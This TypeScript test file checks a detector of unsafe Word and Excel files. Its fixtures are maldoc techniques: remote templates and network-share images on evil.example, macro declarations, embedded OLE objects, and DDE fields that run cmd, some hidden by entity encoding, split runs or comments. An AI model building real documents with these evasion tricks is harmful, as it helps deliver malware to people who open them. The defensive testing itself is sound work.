import { expect, test } from 'vitest'
import { anOffice } from '#test/documents.ts'
import { problemOfOffice } from './office.ts'

const text = (words: string) => Buffer.from(words)
const with_ = (more: Parameters<typeof anOffice>[1]) => anOffice('docx', more)
const FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'

function withRelation(attributes: string) {
  return with_({ 'word/_rels/document.xml.rels': text(`<Relationships><Relationship ${attributes}/></Relationships>`) })
}

function withBody(tags: string) {
  return with_({ 'word/document.xml': text(`<w:document><w:body>${tags}</w:body></w:document>`) })
}

const unsafe: [why: string, kind: 'docx' | 'xlsx', bytes: Buffer][] = [
  [
    'a DOCX with a template elsewhere, spelled in references',
    'docx',
    withRelation('Type="http://x/attachedTempl&#97;te" Target="http://evil.example/a.dotm" TargetMode="Ext&#x65;rnal"'),
  ],
  [
    'a DOCX with a template elsewhere, behind a value that reads as a link',
    'docx',
    withRelation(`Target=' Type="http://x/hyperlink" ' Type="http://x/attachedTemplate" TargetMode="External"`),
  ],
  [
    'a DOCX with relations in UTF-16',
    'docx',
    with_({ 'word/_rels/a.xml.rels': Buffer.from('\ufeff<Relationships/>', 'utf16le') }),
  ],
  [
    'a DOCX with relations in UTF-7',
    'docx',
    with_({ 'word/_rels/a.xml.rels': text('<?xml version="1.0" encoding="UTF-7"?><Relationships/>') }),
  ],
  [
    'a DOCX with a picture on a network share',
    'docx',
    withRelation('Type="http://x/image" Target="file:///\\\\evil.example\\a.png" TargetMode="External"'),
  ],
  [
    'a DOCX that declares macros in references',
    'docx',
    with_({
      '[Content_Types].xml': text(
        '<Types><Override ContentType="wordprocessingml.document.main+xml"/><Override ContentType="application/vnd.ms-office.vb&#97;Project"/></Types>',
      ),
    }),
  ],
  ['a DOCX with an object', 'docx', with_({ 'word/embeddings/oleObject1.bin': text('MZ') })],
  [
    'a DOCX with an object under another name',
    'docx',
    with_({ 'word/media/a.png': Buffer.from('d0cf11e0a1b11ae100', 'hex') }),
  ],
  ['a DOCX with a relation to an object', 'docx', withRelation('Type="http://x/oleObject" Target="a"')],
  ['a DOCX that starts a program', 'docx', withBody('<w:fldSimple w:instr=" DDE&#65;UTO cmd"/>')],
  [
    'a DOCX that divides the instruction',
    'docx',
    withBody(`${FIELD}<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText a=">">DE cmd</w:instrText></w:r>`),
  ],
  [
    'a DOCX that divides the instruction by a comment',
    'docx',
    withBody(`${FIELD}<w:instrText>D<!-- -->DE cmd</w:instrText>`),
  ],
  [
    'a DOCX that makes the instruction of another field',
    'docx',
    withBody(`${FIELD}${FIELD}<w:instrText>QUOTE 68 68 69</w:instrText>`),
  ],
  [
    'an XLSX that starts a program',
    'xlsx',
    anOffice('xlsx', { 'xl/externalLinks/externalLink1.xml': text('<x:ddeLink ddeService="cmd"/>') }),
  ],
]
test.each(unsafe)('%s is unsafe', async (_, kind, bytes) => {
  expect(await problemOfOffice(kind, bytes)).toBe('file_unsafe')
})

const safe: [why: string, kind: 'docx' | 'xlsx', bytes: Buffer][] = [
  [
    'a DOCX with a link and a picture of a web page',
    'docx',
    with_({
      'word/_rels/document.xml.rels': text(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships>
        <Relationship Id="r1" Type="http://x/hyperlink" Target="mailto:a@b.example?subject=It&#39;s" TargetMode="External"/>
        <Relationship Id="r2" Type="http://x/image" Target="https://b.example/a.png" TargetMode="External"/>
        <Relationship Id="r3" Type="http://x/package" Target="embeddings/Sheet1.xlsx"/></Relationships>`,
      ),
      'word/embeddings/Sheet1.xlsx': anOffice('xlsx'),
    }),
  ],
  [
    'a DOCX with fields that only mention DDE',
    'docx',
    withBody(
      `${FIELD}<w:instrText> HYPERLINK "https://b.example/DDE" </w:instrText><w:fldChar w:fldCharType="separate"/>
      ${FIELD}<w:instrText>PAGE</w:instrText><w:fldSimple w:instr=" TOC DDE"/><w:t>DDE</w:t>`,
    ),
  ],
]
test.each(safe)('%s is accepted', async (_, kind, bytes) => {
  expect(await problemOfOffice(kind, bytes)).toBeUndefined()
})
